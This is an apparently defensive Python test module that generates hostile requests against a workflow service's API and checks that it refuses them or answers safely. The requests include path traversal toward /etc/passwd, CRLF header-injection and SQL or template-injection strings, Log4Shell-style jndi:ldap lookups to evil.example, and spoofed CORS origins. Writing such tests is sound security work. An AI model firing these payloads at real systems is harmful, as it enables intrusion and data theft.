"""Tables: ids in paths, who learns what exists, other sites' pages, what headers and bodies say."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Final

from tests.attacks.attack import Attack
from tests.attacks.door import ORIGIN, Request
from tests.attacks.json_cases import ACCEPTED, EITHER, REFUSED_JSON
from tests.attacks.tables_of_credentials import ROUTES, RUN_ROUTES

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.attacks.door import Door

__all__ = ["bodies", "header_texts", "other_sites", "run_ids", "strangers"]

# What stands where a run's id should: traversal, NUL, line breaks, other encodings, length.
ID_TEXTS: Final = (
    "..",
    ".",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "run_0123456789abcdef%00",
    "run_0123456789abcdef%0a",
    "run_0123456789abcdef%0d%0aX-Evil:%201",
    "%0d%0aSet-Cookie:%20a=b",
    "%ff",
    "%c0%ae%c0%ae",
    "run_%C3%A9%C3%A9%C3%A9%C3%A9%C3%A9%C3%A9%C3%A9%C3%A9",
    "run_%EF%BC%90%EF%BC%91%EF%BC%92%EF%BC%93%EF%BC%94%EF%BC%95%EF%BC%96%EF%BC%97",
    "RUN_0123456789abcdef",
    "run_",
    "run_1234567",
    "run_" + "a" * 65,
    "run_" + "a" * 4096,
    "run-0123456789abcdef",
    "0123456789abcdef",
    "run_0123456789abcde%20",
    "%20run_0123456789abcdef",
    "run_0123456789'--",
    "run_{{7*7}}{{7*7}}",
    "run_$%7bjndi:ldap:%2f%2fx%7d",
    "%F0%9F%92%A9",
    "__proto__",
    "null",
    "*",
)


# Lifetimes of a token that are none, or out of bounds.
TTLS: Final = (
    b"0",
    b"-1",
    b"59.999",
    b"2592001",
    b"1e308",
    b"1e400",
    b"9" * 40,
    b"-" + b"9" * 400,
    b"NaN",
    b"true",
    b"[]",
    b"{}",
    b'""',
    b'"1"',
    b'"-1h"',
    b'"31d"',
    b'"1h\\u0000"',
    b'"' + b"9" * 400 + b'd"',
    b'"\xff"',
    '"１h"'.encode(),
)


def run_ids(door: Door) -> Iterator[Attack]:
    """Texts that are no run id are 404 like a run that is not there, with a good key."""
    for text in ID_TEXTS:
        for method, path in RUN_ROUTES:
            if method != "HEAD":
                target = path.format(run=text)
                yield Attack(
                    f"{method} {target[:60]}", Request(method, target, door.as_admin()), (404, 405)
                )
        target = f"/notify/go-1?runId={text}"
        yield Attack(f"POST {target[:60]}", Request("POST", target, door.as_admin()), (404,))
    for text in ID_TEXTS:
        for path in (f"/trigger/{text}", f"/workflows/{text}"):
            method = "POST" if path.startswith("/trigger") else "GET"
            yield Attack(f"{method} {path[:60]}", Request(method, path, door.as_admin()), (404,))


def strangers(door: Door) -> Iterator[Attack]:
    """Without a credential every route says the same of what exists and of what does not."""
    for method, path in ROUTES:
        yield Attack(f"{method} {path}", Request(method, path, body=b"1"))
        yield Attack(f"{method} {path}, bad JSON", Request(method, path, body=b"{"))
    for method, path in RUN_ROUTES:
        if method == "HEAD":
            continue
        for run in (door.run, door.absent, "no-id", "%00", "a" * 300):
            target = path.format(run=run)
            yield Attack(f"{method} {target[:60]}", Request(method, target))
            yield Attack(f"{method} {target[:60]}?token=x", Request(method, f"{target}?token=x"))
    for text in ("echo", "absent", "%00"):
        for path in (f"/trigger/{text}", f"/trigger/{text}/batch", f"/notify/{text}"):
            yield Attack(f"POST {path}", Request("POST", path, body=b"[]"))
        yield Attack(f"GET /workflows/{text}", Request("GET", f"/workflows/{text}"))


def other_sites(door: Door) -> Iterator[Attack]:
    """Origins that are not listed: no answer names them, no preflight is granted."""
    asks = (("Access-Control-Request-Method", "POST"),)
    for origin in (
        "https://evil.example",
        "null",
        "http://app.example.com",
        "https://app.example.com:8443",
        "https://app.example.com.evil.example",
        "https://evil.example/https://app.example.com",
        "https://app.example.com@evil.example",
        "https://APP.EXAMPLE.COM",
        "https://app.example.com/",
        "https://app.example.com, https://evil.example",
        "*",
        "",
        "https://app.example.com\u2028",
    ):
        sent = (("Origin", origin),)
        hidden = ("access-control-allow", "*", ORIGIN) + ((origin,) if len(origin) > 1 else ())
        request = Request("OPTIONS", "/trigger/echo", (*sent, *asks))
        yield Attack(f"preflight from {origin!r}", request, (403,), hidden)
        request = Request("GET", f"/runs/{door.run}", door.as_admin(*sent))
        yield Attack(f"read from {origin!r}", request, (200,), hidden[1:])
    cookie = (("Cookie", "session=1; X-API-Key=1"), ("Origin", ORIGIN))
    yield Attack("cookies are no credential", Request("POST", "/trigger/echo", cookie, b"1"))
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=a",
    ):
        headers = door.as_admin(("Content-Type", kind))
        yield Attack(f"a form's {kind}", Request("POST", "/trigger/echo", headers, b"1"), (400,))


def header_texts(door: Door) -> Iterator[Attack]:
    """What a header's text may do: nothing, but be refused or mean nothing."""
    for text in ("", "\t", "a\x7f", "é", "\u2028", "a" * 257, "\x01", "a\r\nX-Evil: 1", "a\0"):
        headers = door.as_admin(("Idempotency-Key", text))
        yield Attack(
            f"idempotency key {text[:20]!r}",
            Request("POST", "/trigger/echo", headers, b"1"),
            (400,),
        )
    headers = door.as_admin(("Idempotency-Key", "a" * 256))
    yield Attack("idempotency key of 256", Request("POST", "/trigger/echo", headers, b"1"), (200,))
    ended, _ = door.trigger("echo", "done")
    # What is no id counts as none: the standard has clients send back whatever they were given.
    for text in (
        "",
        "-1",
        "1.5",
        "1e3",
        " 1",
        "0x1",
        "é",
        "9" * 20,
        "1\r\nX-Evil: 1",
        "a" * 4000,
        "\0",
    ):
        headers = door.as_admin(("Last-Event-ID", text))
        request = Request("GET", f"/runs/{ended}/stream", headers)
        yield Attack(f"last event id {text[:20]!r}", request, (200,))
    for text in ("9" * 19, "18446744073709551615"[:19], "0" * 19):
        headers = door.as_admin(("Last-Event-ID", text))
        request = Request("GET", f"/runs/{ended}/stream", headers)
        yield Attack(f"last event id {text}", request, (200, 204))
    for query in (
        "limit=0",
        "limit=-1",
        "limit=1e3",
        "limit=%00",
        "cursor=x",
        "cursor=%00",
        "cursor=../../x",
        "status=nope",
        "status=running%00",
        "createdAfter=now",
        "createdAfter=2024-13-01T00:00:00Z",
        "createdBefore=1",
    ):
        yield Attack(f"runs?{query}", Request("GET", f"/runs?{query}", door.as_admin()), (400,))
    for name in (
        "Host",
        "X-Forwarded-Host",
        "Forwarded",
        "X-Forwarded-For",
        "X-Real-IP",
        "Referer",
        "User-Agent",
        "Accept",
        "Accept-Language",
        "If-None-Match",
        "Range",
        "Expect",
    ):
        for text in (
            "evil.example",
            "a\x1b[2J",
            "\u202e",
            "${jndi:ldap://evil.example/x}",
            "a" * 7000,
        ):
            headers = door.as_admin((name, text))
            yield Attack(
                f"{name}: {text[:20]!r}", Request("GET", "/runs", headers), (200,), ("evil",)
            )


def bodies(door: Door) -> Iterator[Attack]:
    """Texts that are JSON, that are not, and that parsers disagree on; numbers and depth."""
    for path in ("/trigger/echo", f"/notify/go-1?runId={door.run}"):
        for name, text in REFUSED_JSON.items():
            yield Attack(f"{path} {name}", Request("POST", path, door.as_admin(), text), (400,))
    # A batch is taken apart before its inputs are looked at one by one: each answers for itself.
    for path in ("/trigger/echo/batch", f"/runs/{door.run}/token"):
        for name, text in REFUSED_JSON.items():
            request = Request("POST", path, door.as_admin(), text)
            yield Attack(
                f"{path[:12]} {name}", request, (200, 400) if "batch" in path else (400, 413)
            )
    for ttl in TTLS:
        request = Request("POST", f"/runs/{door.run}/token", door.as_admin(), b'{"ttl":%b}' % ttl)
        yield Attack(f"ttl {ttl[:20]!r}", request, (400,))
    for name, text in ACCEPTED.items():
        yield Attack(name, Request("POST", "/trigger/echo", door.as_admin(), text), (200,))
    for name, text in EITHER.items():
        yield Attack(name, Request("POST", "/trigger/echo", door.as_admin(), text), (200, 400))
    for count, status in ((1000, 200), (1001, 400)):
        text = json.dumps([1] * count).encode()
        yield Attack(
            f"batch of {count}",
            Request("POST", "/trigger/echo/batch", door.as_admin(), text),
            (status,),
        )
    for kind, status in (
        ("application/json", 200),
        ("application/json; charset=utf-8", 200),
        ("APPLICATION/JSON", 200),
        ("application/problem+json", 200),
        ("text/json", 400),
        ("application/jsonx", 400),
        ("application/xml", 400),
        ("json", 400),
        ("", 400),
        ("application/json\0", 400),
    ):
        headers = door.as_admin(("Content-Type", kind))
        yield Attack(f"type {kind!r}", Request("POST", "/trigger/echo", headers, b"1"), (status,))
